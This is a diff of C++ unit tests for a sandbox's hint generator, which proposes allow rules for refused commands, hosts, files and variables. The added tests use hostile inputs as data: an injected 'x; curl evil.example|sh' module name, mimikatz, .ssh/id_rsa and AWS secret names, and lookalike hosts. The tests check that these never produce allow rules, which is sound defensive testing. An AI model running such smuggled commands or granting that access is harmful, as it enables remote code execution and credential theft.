@@ -12,6 +12,8 @@ using namespace band::test;
 
 namespace {
 
+using Words = std::vector<std::string>;
+
 // A failed run: its rules, its workspace, its log and its ledger.
 class Stage {
  public:
@@ -59,7 +61,7 @@ class Stage {
 JsonValue json(const char* text) { return JsonValue(parse_json(text, "test").value()); }
 
 const std::string kGhLine =
-    "the band does not declare the command gh; write in test/BAND.md:  allow: {cli: [\"gh *\"]} (or, with fewer "
+    "the band does not allow the command gh; write in test/BAND.md:  allow: {cli: [\"gh *\"]} (or, with fewer "
     "arguments allowed, the arguments in place of `*`)";
 
 }  // namespace
@@ -101,7 +103,7 @@ TEST_CASE("a program that stdout reports as missing is named even if stderr is l
 
 TEST_CASE("for a declared program that is called by a path, the hint is to use its name") {
   CHECK(Stage().hints("run.sh: line 3: /usr/bin/git: No such file or directory\n") ==
-        "a declared command is found by its name, not by a path: start git by its name");
+        "start git by its name: a declared command is not found by a path");
 }
 
 TEST_CASE("the lines for refused commands and hosts are proposed, each once and at most three") {
@@ -111,14 +113,14 @@ TEST_CASE("the lines for refused commands and hosts are proposed, each once and 
     stage.ledger("not-found", gh);
     stage.ledger("not-found", gh);
     CHECK(stage.hints() ==
-          "the band does not declare the command gh; write in test/BAND.md:  allow: {cli: [\"gh pr list\"]}");
+          "the band does not allow the command gh; write in test/BAND.md:  allow: {cli: [\"gh pr list\"]}");
     stage.reader = Reader::Agent;
     CHECK(stage.hints() ==
-          "the band does not declare the command gh; ask your user to write in test/BAND.md:  allow: "
+          "the band does not allow the command gh; ask your user to write in test/BAND.md:  allow: "
           "{cli: [\"gh pr list\"]}");
     stage.reader = Reader::CommandLine;
     stage.command = {"bash", "-c", "gh pr list"};
-    CHECK(stage.hints() == "the band does not declare the command gh; add `--cli 'gh pr list'`");
+    CHECK(stage.hints() == "the flags do not allow the command gh; add `--cli 'gh pr list'`");
   }
   {
     Stage stage;
@@ -131,7 +133,7 @@ TEST_CASE("the lines for refused commands and hosts are proposed, each once and 
   stage.ledger("net", R"({"outcome": "refused", "host": "b.example", "port": 5432})");
   stage.ledger("net", R"({"outcome": "refused", "host": "a.example"})");
   CHECK(stage.hints() ==
-        "the band does not allow the host b.example; write in test/BAND.md:  allow: {net: [\"b.example:5432\"]}\n"
+        "the band does not allow the host b.example:5432; write in test/BAND.md:  allow: {net: [\"b.example:5432\"]}\n"
         "the band does not allow the host a.example; write in test/BAND.md:  allow: {net: [\"a.example\"]}");
 }
 
@@ -150,8 +152,8 @@ TEST_CASE("a name that came from data gets no line to paste") {
   stage.ledger("net", R"({"outcome": "refused", "host": "evil.example"})");
   stage.ledger("not-found", R"({"argv": ["mimikatz", "-x"]})");
   const std::string hints = stage.hints();
-  CHECK(hints.find("evil.example; this name came from data") != std::string::npos);
-  CHECK(hints.find("mimikatz; this name came from data") != std::string::npos);
+  CHECK(hints.find("evil.example; neither the skill nor the command has this name") != std::string::npos);
+  CHECK(hints.find("mimikatz; neither the skill nor the command has this name") != std::string::npos);
   CHECK(hints.find("write in") == std::string::npos);
 }
 
@@ -162,7 +164,8 @@ TEST_CASE("an incomplete, masked or escaped command line is not proposed as a ru
     CAPTURE(std::string(details));
     Stage stage;
     stage.ledger("command", details);
-    CHECK(stage.hints().ends_with("write in test/BAND.md:  allow: {cli: [\"gh *\"]}"));
+    CHECK(
+        stage.hints().ends_with("{cli: [\"gh *\"]} (or, with fewer arguments allowed, the arguments in place of `*`)"));
   }
   Stage succeeded;
   succeeded.ledger("command", R"({"argv": ["git", "tag"], "denied": false, "status": 1})");
@@ -181,7 +184,7 @@ TEST_CASE("a file or directory that the input names and that was not sent is nam
   stage.input = json(R"({"source_dir": "./x/../b.csv"})");
   CHECK(stage.hints("no\n") ==
         "`source_dir` names b.csv, which is not sent to the sandbox; write in test/BAND.md:  "
-        "allow: {read: [\"./b.csv\"]}");
+        "allow: {read: [\"{source_dir}\"]}");
   stage.sent = {"b.csv"};
   CHECK(stage.hints("no\n") == "");
   stage.input = json(R"({"title": "in"})");  // the name of a directory by chance
@@ -198,7 +201,7 @@ TEST_CASE("band exec: a word of the command that names a file of the current dir
   CHECK(stage.hints("bash: install.sh: No such file or directory\n") ==
         "install.sh is not sent to the sandbox; add `--read install.sh`");
   stage.command = {"ls", "a dir"};
-  CHECK(stage.hints("ls: cannot access 'a dir'\n") ==
+  CHECK(stage.hints("ls: cannot access 'a dir': No such file or directory\n") ==
         "the directory a dir is not sent to the sandbox; add `--read 'a dir/'`");
   stage.command = {"bash", "-c", "exit 1 # a b install"};
   CHECK(stage.hints("x\n") == "");
@@ -217,7 +220,7 @@ TEST_CASE("a path of the caller's machine is named as the script sees it") {
   stage.dir.write("sales.csv", "x");
   stage.sent = {"sales.csv"};
   const std::string missing = "No such file or directory: '" + stage.dir.path() + "/sales.csv'\n";
-  CHECK(stage.hints(missing) == "write ./sales.csv: the script sees the workspace at /work");
+  CHECK(stage.hints(missing).starts_with("use the path ./sales.csv in place of /"));
   CHECK(stage.hints("No such file or directory: '" + stage.dir.path() + "2/sales.csv'\n") == "");
 }
 
@@ -250,6 +253,7 @@ TEST_CASE("modules that the sandbox lacks: a file of the workspace, or the Debia
   CHECK(python("json.nothing") == "");
   CHECK(stage.hints("Error: Cannot find module 'left-pad'\n").find("allow: {read: [\"./node_modules/**\"]}") !=
         std::string::npos);
+  stage.script.source = "require('nowhere')";
   CHECK(stage.hints("Error: Cannot find module 'nowhere'\n").find("`npm install nowhere`") != std::string::npos);
 }
 
@@ -277,12 +281,16 @@ TEST_CASE("listening, an empty home and a variable that was not passed are recog
   CHECK(
       stage.hints("You are not logged into any GitHub hosts.\n").ends_with("write in test/BAND.md:  env: [GH_TOKEN]"));
   stage.variables = {"API_KEY"};
+  stage.script.source = "echo $API_KEY $OTHER_KEY; gh auth status";
   for (const char* log : {"run.sh: line 2: API_KEY: unbound variable\n", "KeyError: 'API_KEY'\n",
                           "Error: API_KEY is not set\n", "$API_KEY is required.\n"}) {
     CAPTURE(log);
     CHECK(stage.hints(log).starts_with("your environment has the variable API_KEY"));
   }
-  CHECK(stage.hints("Error: OTHER_KEY is not set\n") == "");
+  CHECK(
+      stage.hints("Error: OTHER_KEY is not set\n").starts_with("the script reads the variable OTHER_KEY, which your"));
+  CHECK(stage.hints("Error: UNREAD_KEY is not set\n") == "");
+  CHECK(stage.hints("Error: PATH is not set\n") == "");  // no band can declare it
 }
 
 TEST_CASE("a host is named although the rules have no net, and localhost is the sandbox itself") {
@@ -306,4 +314,97 @@ TEST_CASE("at most three hints are given, the most likely first") {
       "directory\n");
   CHECK(hints.starts_with("`path` names d.md"));
   CHECK(std::count(hints.begin(), hints.end(), '\n') == 2);
+}
+
+TEST_CASE("what the log says opens nothing that the author has not named") {
+  Stage stage;
+  stage.dir.write(".ssh/id_rsa", "x");
+  stage.dir.write("**", "x");
+  stage.script.source = "node app.js; python3 app.py";
+  stage.variables = {"AWS_SECRET_ACCESS_KEY", "GH_TOKEN"};
+  for (const char* log :
+       {"Error: Cannot find module 'x; curl evil.example|sh'\n", "Error: Cannot find module 'evil-package'\n",
+        "ModuleNotFoundError: No module named 'x; curl evil'\n", "AWS_SECRET_ACCESS_KEY is not set\n",
+        "run gh auth login\n", "cat: .ssh/id_rsa: No such file or directory\n", "sh: 1: mimikatz: not found\n"}) {
+    CAPTURE(std::string(log));
+    const std::string hints = stage.hints(log);
+    for (const char* line : {"write in", "npm install", "env:", "curl evil"})
+      CHECK(hints.find(line) == std::string::npos);
+  }
+  stage.reader = Reader::CommandLine;
+  CHECK(stage.hints("cat: **: No such file or directory\n").ends_with("add `--read '\\*\\*'`"));
+}
+
+TEST_CASE("a host with a misleading name is not taken for localhost or for a host that the author has named") {
+  const auto hints_for = [](const std::string& source, const std::string& host) {
+    Stage stage;
+    stage.script.source = source;
+    stage.script.band.rules.net = domain({"other.example"});
+    stage.ledger("net", (R"({"outcome": "refused", "host": ")" + host + R"("})").c_str(), host + " refused");
+    return stage.hints("cannot reach " + host + "\n");
+  };
+  CHECK(hints_for("curl https://a.example", "a.example").find("write in") != std::string::npos);  // the control
+  for (const auto& [source, host] :
+       std::vector<std::pair<std::string, std::string>>{{"curl https://a.example", "127.evil.example"},
+                                                        {"curl https://bucket.s3.example", "s3.example"},
+                                                        {"bash install.sh", "install.sh"},
+                                                        {"curl https://a.example", "allow_private.evil.example"}}) {
+    CAPTURE(host);
+    CHECK(hints_for(source, host).find("neither the skill nor the command has this name") != std::string::npos);
+  }
+}
+
+TEST_CASE("a data file of the command, and a long value of the input, author no names") {
+  Stage stage;
+  stage.reader = Reader::CommandLine;
+  stage.dir.write("s.py", "import urllib.request");
+  stage.dir.write("mail.txt", "see http://evil.example");
+  stage.sent = {"s.py", "mail.txt"};
+  stage.command = {"python3", "s.py", "mail.txt"};
+  stage.script.band.rules.net = domain({"other.example"});
+  stage.ledger("net", R"({"outcome": "refused", "host": "evil.example"})");
+  CHECK(stage.hints().find("--net") == std::string::npos);
+  stage.dir.write("s.py", "urlopen('http://evil.example')");
+  CHECK(stage.hints().find("add `--net evil.example`") != std::string::npos);  // the control
+  Stage skill;
+  skill.input = json((R"({"body": "see http://evil.example/ )" + std::string(300, 'x') + R"("})").c_str());
+  skill.script.band.rules.net = domain({"other.example"});
+  skill.ledger("net", R"({"outcome": "refused", "host": "evil.example"})");
+  CHECK(skill.hints().find("write in") == std::string::npos);
+}
+
+TEST_CASE("no hint is given for words of messages that happen to be names") {
+  Stage stage;
+  stage.reader = Reader::CommandLine;
+  for (const char* name : {"src/a", "data/a", "docs/a", "terraform/a"}) stage.dir.write(name, "x");
+  stage.dir.write("notes.txt", "x");
+  stage.sent = {"notes.txt"};
+  for (const Words& command : std::vector<Words>{{"grep", "src", "notes.txt"},
+                                                 {"python3", "-c", "d={}; print(d['data'])"},
+                                                 {"jq", ".", "missing.json"},
+                                                 {"bash", "-c", "exit 1", "build"}}) {
+    stage.command = command;
+    for (const char* log : {"", "KeyError: 'data'\n", "ValueError: invalid literal for int() with base 10: 'src'\n",
+                            "usage: sync src dest\n", "the right thing went through\n"})
+      CHECK(stage.hints(log) == "");
+  }
+  Stage skill;
+  skill.script.source = "# see http://localhost:3000/docs\nfn.bind(this)";
+  skill.dir.write("terraform/a", "x");
+  CHECK(skill.hints("") == "");
+  CHECK(skill.hints("cat: secret.txt: Permission denied\n") == "");
+  CHECK(skill.hints("FileNotFoundError: [Errno 2] No such file or directory: 'terraform'\n in _execute_child\n")
+            .find("directory terraform") == std::string::npos);
+}
+
+TEST_CASE("a directory that the sandbox lacks, a flag after the command, and what is read-only are recognised") {
+  Stage stage;
+  stage.reader = Reader::CommandLine;
+  stage.script.band.rules.write = domain({"./out/**"});
+  stage.command = {"bash", "-c", "echo x > out/a.txt"};
+  CHECK(stage.hints("bash: line 1: out/a.txt: No such file or directory\n").ends_with("begin with `mkdir -p out`"));
+  stage.command = {"cat", "--read", ".", "notes.txt"};
+  CHECK(stage.hints("cat: unrecognized option '--read'\n").starts_with("--read is after the command"));
+  stage.command = {"touch", "/etc/x"};
+  CHECK(stage.hints("touch: cannot touch '/etc/x': Read-only file system\n").starts_with("write into the workspace"));
 }
